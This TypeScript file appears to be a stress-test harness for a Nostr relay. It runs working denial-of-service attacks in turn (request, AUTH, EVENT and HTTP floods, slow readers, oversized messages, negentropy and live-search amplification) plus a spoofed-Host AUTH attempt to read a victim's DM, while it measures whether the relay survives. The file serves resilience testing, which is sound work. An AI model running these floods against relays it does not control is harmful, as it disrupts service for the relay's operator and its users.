// attack: the attacks of "hostile clients" (docs/security.md), one after another against any relay,
// each while a victim client measures its own requests: REQ by id, a small REQ
// ({"kinds":[1],"limit":10}) and EVENT to OK, in a closed loop on one connection. With --pid the
// relay's peak RSS during each attack is read from /proc. Every attack is bounded in time
// (--ramp + --duration) and in what the client itself holds; a result line per attack says whether
// the relay survived (still answering afterwards), its peak RSS and the victim's medians.
//
// The attacker's sockets come from --attacker-address (default 127.0.0.2 when the relay is on
// loopback) and the victim's from the default address, so per-address limits see two clients, as
// they would on the internet.
import { Agent, request } from 'node:http';
import type { Socket } from 'node:net';
import { Worker } from 'node:worker_threads';
import { COMMON_OPTS, flag, list, num, str, UsageError, type Opts } from './lib/args.js';
import { DATASET_OPTS, type Bench } from './lib/bench.js';
import { getSigner, loadDataset, makeKeys, signAll, type KeyPair, type NostrEvent } from './lib/events.js';
import { Histogram } from './lib/histogram.js';
import { emit, log, machine, relayRssMb, table, waitForQuiet } from './lib/report.js';
import { challengeOf, loadPaced, open, openMany, prefixOf, send, type Sock, type VictimResult } from './lib/sockets.js';

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));
/** Searches the live-search attack holds: each matches every profile it publishes. */
const LIVE_SEARCH_WORDS = ['profile', 'profile published', 'live-search attack', 'published during', 'profile attack'];
const ATTACKS = ['filters', 'prefixes', 'host-auth', 'auth-flood', 'event-flood', 'scans', 'slow-readers', 'big-messages', 'neg-union', 'neg-flood', 'neg-hold', 'http-flood', 'live-search'] as const;
/**
 * The first message of a negentropy initiator that holds nothing: an empty id list over the whole
 * range (version 0x61, upper bound "infinity", mode IdList, 0 ids). Every answer to it is every id
 * of the filter's set, up to the relay's frame size.
 */
const NEG_EMPTY = '6100000200';
type AttackName = (typeof ATTACKS)[number];
/** kind of the large events the slow readers ask for (kept apart from the victim's kind 1) */
const BIG_KIND = 1064;

// ---------------------------------------------------------------------------------------------
// the attacks: each starts its sockets and loops until stopped, then reports what it saw

interface Attack {
  describe: string;
  stop(): Promise<Record<string, unknown>>;
}

interface Ctx {
  url: string;
  address: string | undefined;
  dmVictim: KeyPair;
  dmId: string;
  /** pre-signed events for the EVENT flood */
  flood: NostrEvent[];
  /** pre-signed kind 0 profiles for the live-search attack */
  profiles: NostrEvent[];
}

/** Counts answers by their NIP-01 prefix ("ok" for EOSE / OK true). */
class Tally {
  readonly by: Record<string, number> = {};
  add(k: string, n = 1): void { this.by[k] = (this.by[k] ?? 0) + n; }
}

let uniq = 0;
const vals = (n: number): string[] => Array.from({ length: n }, () => (uniq++).toString(36));

/**
 * Loops REQs on each socket: a new one as soon as the last is answered (EOSE kept open, CLOSED
 * counted), or after 500 ms without an answer (a relay that drops messages unread does not stall
 * the attack).
 */
function reqLoop(socks: Sock[], make: (i: number, prev: string | null) => unknown[], tally: Tally, closeAfterEose: boolean, running: () => boolean): void {
  socks.forEach((s, i) => {
    let n = 0;
    let watchdog: NodeJS.Timeout | undefined;
    const next = (prev: string | null) => {
      clearTimeout(watchdog);
      if (!running() || s.closed) return;
      const sub = `a${i}-${n++}`;
      s.onMessage = (m) => {
        if (m[0] === 'NOTICE') tally.add(`notice ${prefixOf(m[1])}`);
        if (m[1] !== sub) return;
        if (m[0] === 'EOSE') {
          tally.add('eose');
          if (closeAfterEose) send(s, ['CLOSE', sub]);
          setImmediate(() => next(null));
        } else if (m[0] === 'CLOSED') {
          const why = String(m[2] ?? '');
          tally.add(prefixOf(why));
          setTimeout(() => next(why), 20);
        }
      };
      watchdog = setTimeout(() => { tally.add('unanswered'); next(null); }, 500);
      send(s, ['REQ', sub, ...make(i, prev)]);
    };
    next(null);
  });
}

async function startAttack(name: AttackName, ctx: Ctx): Promise<Attack> {
  let running = true;
  const isRunning = () => running;
  const tally = new Tally();
  const closeAll = (socks: Sock[]) => { for (const s of socks) s.ws.terminate(); };
  switch (name) {
    case 'filters': {
      // 4 connections, REQs of ~16k distinct tag values each with limit 0, as many as accepted;
      // refused for size, it retries with 60% as many values
      const socks = await openMany(ctx.url, 4, ctx.address);
      const size = socks.map(() => 16_000);
      reqLoop(socks, (i, prev) => {
        if (prev?.startsWith('restricted') || prev?.startsWith('invalid')) size[i] = Math.max(100, Math.floor(size[i] * 0.6));
        const per = Math.ceil(size[i] / 4);
        return [0, 1, 2, 3].map(() => ({ '#t': vals(per), limit: 0 }));
      }, tally, false, isRunning);
      return { describe: '4 connections, REQs of ~16,000 distinct #t values (limit 0) as fast as answered, kept open', stop: async () => { running = false; closeAll(socks); return { answers: tally.by, values_per_req_at_end: size }; } };
    }
    case 'prefixes': {
      // 6 connections fill subscriptions with short id/author prefixes (20 filters x 450 each)
      const socks = await openMany(ctx.url, 6, ctx.address);
      const hex = () => Math.floor(Math.random() * 0xffffff).toString(16).padStart(6, '0').slice(0, 2 + (uniq++ % 5));
      reqLoop(socks, () => Array.from({ length: 20 }, (_, j) => ({ [j % 2 ? 'ids' : 'authors']: Array.from({ length: 450 }, hex), limit: 0 })), tally, false, isRunning);
      return { describe: '6 connections, subscriptions of 20 filters x 450 id/author prefixes of 2-6 hex chars, as many as accepted', stop: async () => { running = false; closeAll(socks); return { answers: tally.by }; } };
    }
    case 'host-auth': {
      // Host: evil.example and an AUTH the victim signed for wss://evil.example with our challenge;
      // then ask for the victim's DMs. Repeated on new connections until stopped.
      const signer = await getSigner();
      let accepted = 0;
      let refused = 0;
      let dmsRead = 0;
      const loop = (async () => {
        while (running) {
          const s = await open(ctx.url, ctx.address, { Host: 'evil.example' }).catch(() => null);
          if (!s) { await sleep(100); continue; }
          const challenge = await challengeOf(s);
          const ev = signer.sign({ kind: 22242, created_at: Math.floor(Date.now() / 1000), tags: [['relay', 'wss://evil.example'], ['challenge', challenge]], content: '' }, ctx.dmVictim.sk, ctx.dmVictim.pubkey);
          const answer = await new Promise<unknown[] | null>((resolve) => {
            const t = setTimeout(() => resolve(null), 5000);
            s.onMessage = (m) => { if (m[0] === 'OK' && m[1] === ev.id) { clearTimeout(t); resolve(m); } };
            send(s, ['AUTH', ev]);
          });
          if (answer?.[2] === true) accepted++;
          else refused++;
          await new Promise<void>((resolve) => {
            const t = setTimeout(resolve, 5000);
            s.onMessage = (m) => {
              if (m[0] === 'EVENT' && m[1] === 'dm') dmsRead++;
              if ((m[0] === 'EOSE' || m[0] === 'CLOSED') && m[1] === 'dm') { clearTimeout(t); resolve(); }
            };
            send(s, ['REQ', 'dm', { ids: [ctx.dmId] }]);
          });
          s.ws.terminate();
          await sleep(50);
        }
      })();
      return { describe: 'Host: evil.example, AUTH signed by the victim for wss://evil.example with our challenge, then REQ for the victim\'s DM', stop: async () => { running = false; await loop; return { auth_accepted: accepted, auth_refused: refused, dms_read: dmsRead }; } };
    }
    case 'auth-flood': {
      // 4 connections resend one valid AUTH as fast as the socket takes it
      const socks = await openMany(ctx.url, 4, ctx.address);
      const signer = await getSigner();
      let sent = 0;
      for (const s of socks) {
        const ev = signer.sign({ kind: 22242, created_at: Math.floor(Date.now() / 1000), tags: [['relay', ctx.url], ['challenge', await challengeOf(s)]], content: '' }, ctx.dmVictim.sk, ctx.dmVictim.pubkey);
        const frame = JSON.stringify(['AUTH', ev]);
        s.onMessage = (m) => { if (m[0] === 'OK') tally.add(m[2] === true ? 'ok' : prefixOf(m[3])); };
        const pump = () => {
          if (!running || s.closed) return;
          if (s.ws.bufferedAmount < 1 << 20) { for (let k = 0; k < 200; k++) s.ws.send(frame); sent += 200; }
          setImmediate(pump);
        };
        pump();
      }
      return { describe: '4 connections resend one valid AUTH as fast as their sockets take it', stop: async () => { running = false; closeAll(socks); return { sent, answers: tally.by }; } };
    }
    case 'event-flood': {
      // 4 connections publish valid, distinct events as fast as their sockets take them, without
      // waiting for OKs: signature checks and write batches for nothing
      const socks = await openMany(ctx.url, 4, ctx.address);
      const frames = ctx.flood.map((e) => JSON.stringify(['EVENT', e]));
      let sent = 0;
      socks.forEach((s, c) => {
        let k = c;
        s.onMessage = (m) => { if (m[0] === 'OK') tally.add(m[2] === true ? 'ok' : prefixOf(m[3])); };
        const pump = () => {
          if (!running || s.closed) return;
          if (s.ws.bufferedAmount < 1 << 20) for (let j = 0; j < 100; j++, k += socks.length) { s.ws.send(frames[k % frames.length]); sent++; }
          setImmediate(pump);
        };
        pump();
      });
      return { describe: '4 connections publish valid, distinct events as fast as their sockets take them, not waiting for OKs', stop: async () => { running = false; closeAll(socks); return { sent, answers: tally.by }; } };
    }
    case 'scans': {
      // 128 connections, each a scan as long as the budget allows ({"authors":["ab"]}), again and again
      const socks = await openMany(ctx.url, 128, ctx.address);
      reqLoop(socks, () => [{ authors: ['ab'] }], tally, true, isRunning);
      return { describe: '128 connections, each REQ {"authors":["ab"]} (a whole-store scan) again as soon as answered', stop: async () => { running = false; closeAll(socks); return { answers: tally.by }; } };
    }
    case 'slow-readers': {
      // 100 connections that never read, each asking for 500 events of ~60 KB (4 times); a
      // connection the relay closes is opened again
      const socks: Sock[] = [];
      let opened = 0;
      let closedByRelay = 0;
      const one = async (): Promise<void> => {
        if (!running) return;
        const s = await open(ctx.url, ctx.address, {}, false).catch(() => null);
        if (!s) { await sleep(200); return one(); }
        opened++;
        socks.push(s);
        (s.ws as unknown as { _socket: Socket })._socket.pause();
        for (let k = 0; k < 4; k++) send(s, ['REQ', `big${k}`, { kinds: [BIG_KIND], limit: 500 }]);
        s.ws.once('close', () => { if (running) { closedByRelay++; setTimeout(() => void one(), 100); } });
      };
      await Promise.all(Array.from({ length: 100 }, one));
      return { describe: '100 connections never read; each REQs 4 x 500 events of ~60 KB; reopened when closed', stop: async () => { running = false; closeAll(socks); return { connections_opened: opened, closed_by_relay: closedByRelay }; } };
    }
    case 'big-messages': {
      // 4 connections send 1.5 MB messages (over max_message_length, under the 2 MiB read limit)
      const socks = await openMany(ctx.url, 4, ctx.address);
      const frame = JSON.stringify(['EVENT', { content: 'x'.repeat(1_500_000) }]);
      let sent = 0;
      for (const s of socks) {
        s.onMessage = (m) => { if (m[0] === 'NOTICE') tally.add(prefixOf(m[1])); };
        const pump = () => {
          if (!running || s.closed) return;
          if (s.ws.bufferedAmount < 8 << 20) { s.ws.send(frame); sent++; }
          setImmediate(pump);
        };
        pump();
      }
      return { describe: '4 connections send 1.5 MB messages as fast as their sockets take them', stop: async () => { running = false; closeAll(socks); return { sent, notices: tally.by, connections_closed: socks.filter((s) => s.closed).length }; } };
    }
    case 'neg-union': {
      // 16 connections, each a NEG-OPEN of 20 filters (every kind range, the whole store) again as
      // soon as answered: the union of the filters' records, and its answer
      const socks = await openMany(ctx.url, 16, ctx.address);
      // kinds 0-19 but 4 (DMs: a filter naming them needs AUTH), and {}
      const filters = [{}, ...[0, 1, 2, 3, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19].map((k) => ({ kinds: [k] }))];
      negLoop(socks, () => ['NEG-OPEN', null, filters, NEG_EMPTY], tally, isRunning);
      return { describe: '16 connections, NEG-OPEN with 20 filters ({} and kinds 0-19 but 4) again as soon as answered', stop: async () => { running = false; closeAll(socks); return { answers: tally.by, bytes_received: bytesOf(socks) }; } };
    }
    case 'neg-flood': {
      // 4 connections x 8 sessions over {}; each session sends the 37-byte "send me every id"
      // NEG-MSG again as soon as answered. Answers are not parsed (only their head is read), so
      // the attacker's own CPU does not slow the victim it measures.
      const socks = await openMany(ctx.url, 4, ctx.address, false);
      for (const s of socks) {
        s.ws.on('message', (d: Buffer) => {
          const head = /^\["(NEG-MSG|NEG-ERR)","([^"]+)"(?:,"([a-z-]*))?/.exec(d.subarray(0, 120).toString('latin1'));
          if (!head || !running || s.closed) return;
          if (head[1] === 'NEG-MSG') {
            tally.add('neg-msg');
            send(s, ['NEG-MSG', head[2], NEG_EMPTY]);
          } else {
            tally.add(head[3] || 'neg-err');
            setTimeout(() => send(s, ['NEG-OPEN', head[2], {}, NEG_EMPTY]), 200);
          }
        });
        for (let k = 0; k < 8; k++) send(s, ['NEG-OPEN', `f${k}`, {}, NEG_EMPTY]);
      }
      return { describe: '4 connections x 8 NIP-77 sessions over {}, each resending the 37-byte "every id" NEG-MSG as soon as answered', stop: async () => { running = false; closeAll(socks); return { answers: tally.by, bytes_received: bytesOf(socks) }; } };
    }
    case 'neg-hold': {
      // 4 connections open NIP-77 sessions over {} until refused, and hold them (the relay-wide
      // record cap); the result says whether another address could still open one meanwhile
      const socks = await openMany(ctx.url, 4, ctx.address);
      let held = 0;
      for (const s of socks) {
        s.onMessage = (m) => {
          if (m[0] === 'NEG-MSG' && String(m[1]).startsWith('h')) { held++; tally.add('held'); }
          if (m[0] === 'NEG-ERR') tally.add(prefixOf(m[2]));
        };
        for (let k = 0; k < 8; k++) send(s, ['NEG-OPEN', `h${k}`, {}, NEG_EMPTY]);
      }
      await sleep(2000);
      const other = await open(ctx.url, undefined).catch(() => null);
      const otherAnswer = other ? await new Promise<string>((resolve) => {
        const t = setTimeout(() => resolve('no answer'), 10_000);
        other.onMessage = (m) => { if (m[1] === 'o' && (m[0] === 'NEG-MSG' || m[0] === 'NEG-ERR')) { clearTimeout(t); resolve(m[0] === 'NEG-MSG' ? 'answered' : String(m[2]).slice(0, 80)); } };
        send(other, ['NEG-OPEN', 'o', {}, NEG_EMPTY]);
      }) : 'could not connect';
      other?.ws.terminate();
      return { describe: '4 connections open 8 NIP-77 sessions each over {} and hold them; then another address opens one', stop: async () => { running = false; closeAll(socks); return { sessions_held: held, answers: tally.by, other_address: otherAnswer }; } };
    }
    case 'http-flood': {
      // 64 keep-alive sockets, each requesting the heavy pages one after another without pause
      const paths = ['/', '/status.json', '/metrics', '/directory', '/directory.json'];
      const base = ctx.url.replace(/^ws/, 'http');
      const agent = new Agent({ keepAlive: true, maxSockets: 64, localAddress: ctx.address });
      let bytes = 0;
      const one = (i: number): void => {
        if (!running) return;
        const req = request(`${base}${paths[i % paths.length]}`, { agent }, (res) => {
          tally.add(String(res.statusCode));
          res.on('data', (d: Buffer) => { bytes += d.length; });
          res.on('end', () => setImmediate(() => one(i + 1)));
        });
        req.on('error', () => { tally.add('error'); setTimeout(() => one(i + 1), 100); });
        req.end();
      };
      for (let i = 0; i < 64; i++) one(i);
      return { describe: '64 keep-alive HTTP sockets requesting /, /status.json, /metrics, /directory, /directory.json back to back', stop: async () => { running = false; agent.destroy(); return { answers: tally.by, bytes_received: bytes }; } };
    }
    case 'live-search': {
      // 2,000 live NIP-50 searches (10 connections x 200) for words of the kind 0 profiles the
      // attacker publishes from its own connection at ~500/s: each published profile matches every
      // live search (a search is all of its words: the profiles are "profile N", about "a profile
      // published during the live-search attack")
      const socks = await openMany(ctx.url, 11, ctx.address);
      const subs = socks.slice(0, 10);
      subs.forEach((s, i) => {
        s.onMessage = (m) => { if (m[0] === 'CLOSED') tally.add(prefixOf(m[2])); if (m[0] === 'EOSE') tally.add('eose'); };
        for (let k = 0; k < 200; k++) send(s, ['REQ', `q${k}`, { kinds: [0], search: LIVE_SEARCH_WORDS[(i * 200 + k) % LIVE_SEARCH_WORDS.length], limit: 0 }]);
      });
      const pub = socks[10];
      pub.onMessage = (m) => { if (m[0] === 'OK') tally.add(m[2] === true ? 'published' : prefixOf(m[3])); };
      let k = 0;
      const timer = setInterval(() => {
        for (let j = 0; j < 50 && k < ctx.profiles.length; j++) send(pub, ['EVENT', ctx.profiles[k++ % ctx.profiles.length]]);
      }, 100);
      return { describe: '2,000 live NIP-50 searches from 10 connections for words of the ~500 kind 0 profiles/s published meanwhile from the same address', stop: async () => { running = false; clearInterval(timer); closeAll(socks); return { answers: tally.by, profiles_sent: k }; } };
    }
  }
}

/** Bytes received so far on these sockets (ws counts them on its receiver). */
const bytesOf = (socks: Sock[]): number => socks.reduce((n, s) => n + ((s.ws as unknown as { _socket?: Socket })._socket?.bytesRead ?? 0), 0);

/** Loops NEG-OPENs on each socket: a new session as soon as the last was answered (and closed). */
function negLoop(socks: Sock[], make: () => unknown[], tally: Tally, running: () => boolean): void {
  socks.forEach((s, i) => {
    let n = 0;
    const next = () => {
      if (!running() || s.closed) return;
      const sub = `n${i}-${n++}`;
      s.onMessage = (m) => {
        if (m[1] !== sub) return;
        if (m[0] === 'NEG-MSG') { tally.add('answered'); send(s, ['NEG-CLOSE', sub]); setImmediate(next); }
        if (m[0] === 'NEG-ERR') { tally.add(prefixOf(m[2])); setTimeout(next, 20); }
      };
      const msg = make();
      msg[1] = sub;
      send(s, msg);
    };
    next();
  });
}

// ---------------------------------------------------------------------------------------------

/** The victim's loop in a worker thread for `ms` (attack-victim.ts); its histograms come back. */
async function measureVictim(url: string, ids: string[], fresh: NostrEvent[], timeoutMs: number, ms: number): Promise<VictimResult> {
  const w = new Worker(new URL('./attack-victim.js', import.meta.url), { workerData: { url, ids, fresh, timeoutMs } });
  const done = new Promise<VictimResult>((resolve, reject) => {
    w.once('message', (m: Record<string, unknown>) => {
      const h = (x: { counts: Float64Array; count: number; sum: number; max: number }) => Object.assign(new Histogram(), { count: x.count, sum: x.sum, max: x.max }, { counts: x.counts });
      resolve({ byId: h(m.byId as never), small: h(m.small as never), eventOk: h(m.eventOk as never), timeouts: m.timeouts as number, failures: m.failures as Record<string, number>, acked: m.acked as number, lost: m.lost as number });
    });
    w.once('error', reject);
  });
  await sleep(ms);
  w.postMessage('stop');
  const r = await done;
  await w.terminate();
  return r;
}

/** The relay answers: a REQ by id on a new connection gets its event within 10 s. */
async function answers(url: string, id: string): Promise<boolean> {
  const s = await open(url, undefined).catch(() => null);
  if (!s) return false;
  const ok = await new Promise<boolean>((resolve) => {
    const t = setTimeout(() => resolve(false), 10_000);
    let got = false;
    s.onMessage = (m) => {
      if (m[0] === 'EVENT' && m[1] === 'alive') got = true;
      if (m[0] === 'EOSE' && m[1] === 'alive') { clearTimeout(t); resolve(got); }
    };
    send(s, ['REQ', 'alive', { ids: [id] }]);
  });
  s.ws.terminate();
  return ok;
}

function alive(pid: number | undefined): boolean | undefined {
  if (!pid) return undefined;
  try { process.kill(pid, 0); return true; } catch { return false; }
}

function isLoopback(url: string): boolean {
  const h = new URL(url).hostname.replace(/^\[|\]$/g, '');
  return h === 'localhost' || h === '::1' || h.startsWith('127.');
}

/** NIP-11 limitation, for the record (which limits the relay advertised during the run). */
function nip11(url: string): Promise<Record<string, unknown> | undefined> {
  return new Promise((resolve) => {
    const req = request(url.replace(/^ws/, 'http'), { headers: { Accept: 'application/nostr+json' }, timeout: 5000 }, (res) => {
      let text = '';
      res.on('data', (d) => (text += d));
      res.on('end', () => { try { resolve((JSON.parse(text) as { limitation?: Record<string, unknown> }).limitation); } catch { resolve(undefined); } });
    });
    req.on('error', () => resolve(undefined));
    req.end();
  });
}

export const attack: Bench = {
  name: 'attack',
  summary: 'the hostile-client attacks one by one while a victim measures REQ by id / small REQ / EVENT-OK; survived, peak RSS (--pid)',
  options: [
    ...COMMON_OPTS,
    ...DATASET_OPTS.map((o) => (o.name === 'count' ? { ...o, default: 20_000 } : o)),
    { name: 'load', type: 'bool', default: true, help: 'publish the data set, the large events and the victim\'s DM first (--no-load when the relay already has them)' },
    { name: 'attacks', type: 'list', default: [...ATTACKS], help: `attacks to run: ${ATTACKS.join(', ')} (plus "none": the victim alone)` },
    { name: 'baseline', type: 'bool', default: true, help: 'measure the victim alone first (--no-baseline to skip)' },
    { name: 'duration', type: 'number', default: 10, help: 'measured seconds per attack' },
    { name: 'ramp', type: 'number', default: 3, help: 'seconds an attack runs before the victim is measured' },
    { name: 'settle', type: 'number', default: 3, help: 'seconds after an attack before the next (connections close, memory settles)' },
    { name: 'attacker-address', type: 'string', default: '', help: 'local address of the attacker\'s sockets (default 127.0.0.2 when the relay is on loopback; the victim uses the default address)' },
    { name: 'victim-timeout', type: 'number', default: 5, help: 'seconds before a victim request counts as a timeout (recorded at that value)' },
  ],
  async run(o: Opts) {
    const url = str(o, 'url');
    const pid = o.pid as number | undefined;
    const wanted = list(o, 'attacks');
    for (const a of wanted) if (a !== 'none' && !(ATTACKS as readonly string[]).includes(a)) throw new UsageError(`unknown attack ${a}; known: ${ATTACKS.join(', ')}`);
    const runList = [...(flag(o, 'baseline') ? ['none'] : []), ...wanted.filter((a) => a !== 'none')];
    const address = str(o, 'attacker-address') || (isLoopback(url) ? '127.0.0.2' : undefined);
    if (!address) log('attack: the relay is not on loopback and no --attacker-address was given: attacker and victim share an address, so per-address limits count them as one client');

    // everything signed before the clock
    const ds = await loadDataset({ count: num(o, 'count'), authors: num(o, 'authors'), seed: str(o, 'seed'), spanSec: num(o, 'span') }, flag(o, 'regen'));
    const [victimKey, bigKey, dmFriend] = await makeKeys(str(o, 'seed'), 'attack', 3);
    const now = Math.floor(Date.now() / 1000);
    // distinct seconds: a run of events with one created_at makes every `limit` query that cuts
    // inside it read the whole run (the tie rule), which would measure the data, not the attack
    const fresh = await signAll(Array.from({ length: 10_000 }, (_, i) => ({ t: { kind: 1, created_at: now - 10_000 + i, tags: [], content: `victim ${now} ${i}` }, key: victimKey })), 'victim events');
    const big = await signAll(Array.from({ length: 500 }, (_, i) => ({ t: { kind: BIG_KIND, created_at: now - i, tags: [], content: `${i} ${'x'.repeat(60_000)}` }, key: bigKey })), 'large events');
    const [dm] = await signAll([{ t: { kind: 4, created_at: now, tags: [['p', victimKey.pubkey]], content: 'a secret for the victim' }, key: dmFriend }], 'DM');
    const flood = runList.includes('event-flood') ? await signAll(Array.from({ length: 50_000 }, (_, i) => ({ t: { kind: 1, created_at: now - 100_000 - i, tags: [], content: `flood ${now} ${i}` }, key: bigKey })), 'flood events') : [];
    // one profile per author (kind 0 is replaceable): 15,000, ~30 s at 500/s
    const profileKeys = runList.includes('live-search') ? await makeKeys(str(o, 'seed'), 'attack-profiles', 15_000) : [];
    const profiles = await signAll(profileKeys.map((key, i) => ({ t: { kind: 0, created_at: now - i, tags: [], content: JSON.stringify({ name: `profile ${i}`, about: 'a profile published during the live-search attack' }) }, key })), 'profiles');
    if (flag(o, 'load')) {
      log(`attack: loading ${ds.events.length} events, ${big.length} large events and a DM into ${url}`);
      for (const set of [ds.events, big, [dm]]) await loadPaced(url, set);
    }
    const limitation = await nip11(url);
    const ids = ds.events.filter((_, i) => i % 10 !== 9).map((e) => e.id);
    const ctx: Ctx = { url, address, dmVictim: victimKey, dmId: dm.id, flood, profiles };
    const rows: Record<string, string | number>[] = [];
    let freshAt = 0;

    for (const name of runList) {
      await waitForQuiet(num(o, 'quiet-wait'));
      const rssBefore = relayRssMb(pid);
      let peakRss = rssBefore ?? 0;
      const rssTimer = setInterval(() => { const v = relayRssMb(pid); if (v !== undefined && v > peakRss) peakRss = v; }, 100);
      log(`attack ${name}: starting`);
      const atk = name === 'none' ? null : await startAttack(name as AttackName, ctx);
      if (atk) log(`  ${atk.describe}`);
      await sleep(num(o, 'ramp') * 1000);
      const victimFresh = fresh.slice(freshAt).concat(fresh.slice(0, freshAt));
      const v = await measureVictim(url, ids, victimFresh, num(o, 'victim-timeout') * 1000, num(o, 'duration') * 1000);
      freshAt = (freshAt + v.eventOk.count) % fresh.length;
      const attackStats = atk ? await atk.stop() : {};
      await sleep(num(o, 'settle') * 1000);
      clearInterval(rssTimer);
      const survived = (alive(pid) ?? true) && (await answers(url, ids[0]));
      const med = (h: Histogram) => Math.round(h.quantile(0.5) * 100) / 100;
      const p99 = (h: Histogram) => Math.round(h.quantile(0.99) * 100) / 100;
      const result = {
        bench: 'attack',
        label: str(o, 'label') || undefined,
        url,
        time: new Date().toISOString(),
        attack: name,
        describe: atk?.describe ?? 'the victim alone',
        survived,
        relay_rss_before_mb: rssBefore,
        relay_rss_peak_mb: pid ? peakRss : undefined,
        relay_rss_after_mb: relayRssMb(pid),
        victim_by_id_p50_ms: med(v.byId),
        victim_small_req_p50_ms: med(v.small),
        victim_event_ok_p50_ms: med(v.eventOk),
        victim_by_id_p99_ms: p99(v.byId),
        victim_small_req_p99_ms: p99(v.small),
        victim_event_ok_p99_ms: p99(v.eventOk),
        // the longest single wait of each (the goal: never a second)
        victim_by_id_max_ms: Math.round(v.byId.max * 100) / 100,
        victim_small_req_max_ms: Math.round(v.small.max * 100) / 100,
        victim_event_ok_max_ms: Math.round(v.eventOk.max * 100) / 100,
        victim_rounds: v.eventOk.count,
        victim_timeouts: v.timeouts,
        victim_acked: v.acked,
        victim_acked_lost: v.lost,
        victim_failures: Object.keys(v.failures).length ? v.failures : undefined,
        attacker: attackStats,
        attacker_address: address,
        limitation,
        machine: machine(),
      };
      emit(result);
      rows.push({
        attack: name,
        survived: survived ? 'yes' : 'NO',
        'peak RSS MB': pid ? Math.round(peakRss) : '-',
        'by id p50 ms': result.victim_by_id_p50_ms,
        'small REQ p50 ms': result.victim_small_req_p50_ms,
        'EVENT OK p50 ms': result.victim_event_ok_p50_ms,
        'p99 (id/REQ/OK) ms': `${result.victim_by_id_p99_ms} / ${result.victim_small_req_p99_ms} / ${result.victim_event_ok_p99_ms}`,
        'max (id/REQ/OK) ms': `${result.victim_by_id_max_ms} / ${result.victim_small_req_max_ms} / ${result.victim_event_ok_max_ms}`,
        'victim failures': v.timeouts + Object.values(v.failures).reduce((a, b) => a + b, 0),
        'acked / lost': `${v.acked} / ${v.lost}`,
      });
      log(`  attacker saw: ${JSON.stringify(attackStats)}`);
      if (!survived) { log('attack: the relay no longer answers; stopping'); break; }
    }
    table(`attack (${ds.events.length} events in store; attacker from ${address ?? 'the default address'})`, rows);
  },
};
